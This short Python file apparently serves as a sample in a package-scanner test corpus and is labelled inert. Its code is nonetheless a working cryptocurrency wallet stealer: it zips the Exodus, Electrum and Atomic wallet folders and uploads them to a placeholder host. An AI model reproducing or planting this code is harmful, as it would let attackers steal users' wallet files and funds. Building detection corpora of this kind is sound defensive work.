# pkgguard corpus 200 (wallets), modelled on [wallet-tools]; inert, never run.
import os
import shutil
import tempfile

import requests

appdata = os.getenv("APPDATA", "")
for name in ("Exodus", "Electrum", "atomic"):
    source = os.path.join(appdata, name)
    if os.path.isdir(source):
        archive = shutil.make_archive(os.path.join(tempfile.gettempdir(), name), "zip", source)
        with open(archive, "rb") as f:
            requests.put("https://files.example/u/" + name + ".zip", data=f)
